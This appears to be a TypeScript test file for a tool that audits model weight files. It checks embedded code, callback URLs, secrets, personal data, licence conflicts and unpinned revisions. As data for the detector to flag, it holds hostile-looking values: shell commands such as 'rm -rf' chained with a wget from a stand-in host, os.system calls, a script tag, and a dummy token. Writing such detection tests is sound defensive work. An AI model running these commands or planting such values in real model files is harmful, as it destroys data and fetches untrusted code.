/** Cases of rules about papers, persons and references, and of texts in the metadata of weights. */
import type { AuditOptions } from '../../audit/index.ts'
import type { FileFacts } from '../../formats/index.ts'
import { card, file, hit, miss, subjectOf, type CaseSubject, type RuleCase } from './build.ts'

type Entry = readonly [key: string, value: unknown]

function holding(format: string, entries: readonly Entry[], changes: Partial<FileFacts> = {}): CaseSubject {
  const metadata = entries.map(([key, value]) => ({ key, type: 'string', value }))
  return subjectOf([file(`model.${format}`, format, { metadata, ...changes }), card()])
}

function weights(key: string, value: string): CaseSubject {
  return holding('safetensors', [[`/__metadata__/${key}`, value]])
}

function derived(base: unknown, licence: string, options: AuditOptions = {}): CaseSubject {
  const metadata = [
    { key: '/license', type: 'string', value: licence },
    { key: '/base_model', type: 'string', value: base },
  ]
  return subjectOf([file('README.md', 'hf-card', { metadata }), file('m.safetensors', 'safetensors')], { options })
}

function taken(ref: string, commit?: string): CaseSubject {
  const source = { kind: 'hub', ref, location: 'acme/net', ...(commit === undefined ? {} : { commit }) } as const
  return subjectOf([file('m.safetensors', 'safetensors'), card()], { source })
}

/** Drawn for this test; they open nothing. */
const WEB_TOKEN = [
  'eyJhbGciOiJIUzI1NiIsInR5cCI6Ik',
  '.eyJzdWIiOiI5Mzg0NzU2IiwibmFtZ',
  '.Zm9vQmFyUXV4TG9yZW1Jc3BzdW0',
].join('')
const NAMED = ['api_key = "', 'k9Qz4mVt7RwXp2LcB8nYd3Hs', '"'].join('')

const TEXTS: readonly RuleCase[] = [
  hit('TW-PYC-03', 'a command in the metadata of weights', weights('model_info', "import os; os.system('echo')")),
  hit('TW-PYC-03', 'a shell command in the metadata', weights('setup', 'rm -rf /tmp/x && wget http://h.invalid/s')),
  hit('TW-PYC-03', 'a script of a page in the metadata', weights('doc', '<script>alert(1)</script>')),
  hit(
    'TW-PYC-03',
    'packed code in a configuration',
    holding('hf-config', [['/blob', Buffer.from('import os; os.system("id") # pad pad').toString('base64')]]),
  ),
  miss('TW-PYC-03', 'a description of a model', weights('description', 'For eval (5-shot), call model.eval() first.')),
  miss('TW-PYC-03', 'the format of the tensors', weights('format', 'pt')),
  hit('TW-CFG-06', 'a callback in the metadata of weights', weights('callback_url', 'http://h.invalid/x')),
  hit('TW-CFG-06', 'a download in the metadata of weights', weights('download_url', 'https://h.invalid/x')),
  miss(
    'TW-CFG-06',
    'the implementation in the metadata',
    weights('modelspec.implementation', 'https://github.com/a/b'),
  ),
  miss('TW-CFG-06', 'the home of a model', holding('gguf', [['general.url', 'https://huggingface.co/a/b']])),
  hit('TW-SEC-01', 'a web token', holding('hf-config', [['/note', WEB_TOKEN]])),
  hit('TW-SEC-01', 'a key that is named so', holding('hf-config', [['/note', NAMED]])),
  miss(
    'TW-SEC-01',
    'a key that is to be filled in',
    holding('hf-config', [['/note', 'api_key = "your_api_key_here_123"']]),
  ),
  miss('TW-SEC-01', 'the name of a token', holding('hf-config', [['/note', 'access_token: "begin_of_text_token_1"']])),
]

const PERSONS: readonly RuleCase[] = [
  hit('TW-SEC-02', 'a home folder', holding('onnx', [['producer', '/home/mwilliams/src/net.py']])),
  hit('TW-SEC-02', 'a home folder of Windows', holding('gguf', [['general.source', 'C:\\Users\\Petra.K\\net']])),
  hit('TW-SEC-02', 'an address of mail', weights('author', 'petra.klein@firma-klein.de')),
  miss('TW-SEC-02', 'the account of a container', holding('onnx', [['producer', '/home/ubuntu/net.py']])),
  miss('TW-SEC-02', 'an author in a card', holding('hf-card', [['/contact', 'petra.klein@firma-klein.de']])),
  miss('TW-SEC-02', 'an address of an example', weights('author', 'someone@example.com')),
]

const LICENCES: readonly RuleCase[] = [
  hit('TW-LIC-03', 'MIT over Llama', derived('meta-llama/Llama-3.1-8B', 'mit')),
  hit('TW-LIC-03', 'Apache-2.0 over one of two bases', derived(['acme/net', 'google/gemma-2-9b'], 'apache-2.0')),
  hit(
    'TW-LIC-03',
    'an adapter of a noncommercial model',
    subjectOf([
      file('adapter_config.json', 'hf-config', {
        metadata: [{ key: '/base_model_name_or_path', type: 'string', value: 'black-forest-labs/FLUX.1-dev' }],
      }),
      card('mit'),
    ]),
  ),
  miss('TW-LIC-03', 'the licence of the base', derived('meta-llama/Llama-3.1-8B', 'llama3.1')),
  miss('TW-LIC-03', 'a base that asks for nothing', derived('mistralai/Mistral-7B-v0.1', 'mit')),
  miss('TW-LIC-03', 'a licence that is named other', derived('meta-llama/Llama-3.1-8B', 'other')),
  hit('TW-LIC-04', 'a noncommercial licence', derived('acme/net', 'cc-by-nc-4.0', { uses: ['commercial'] })),
  hit('TW-LIC-04', 'a licence against weapons', derived('acme/net', 'llama3.1', { uses: ['military'] })),
  miss('TW-LIC-04', 'a licence without exclusions', derived('acme/net', 'mit', { uses: ['commercial'] })),
  miss('TW-LIC-04', 'a use that nobody declared', derived('acme/net', 'cc-by-nc-4.0')),
]

/** See the module. */
export const PAPER_CASES: readonly RuleCase[] = [
  ...TEXTS,
  ...PERSONS,
  ...LICENCES,
  hit('TW-IDN-02', 'a branch', taken('hf:acme/net@main')),
  hit('TW-IDN-02', 'no revision at all', taken('hf:acme/net')),
  miss('TW-IDN-02', 'a commit', taken(`hf:acme/net@${'0a'.repeat(20)}`)),
  miss('TW-IDN-02', 'a branch whose commit was pinned', taken('hf:acme/net@main', '0a'.repeat(20))),
  miss('TW-IDN-02', 'a folder', subjectOf([card()])),
]
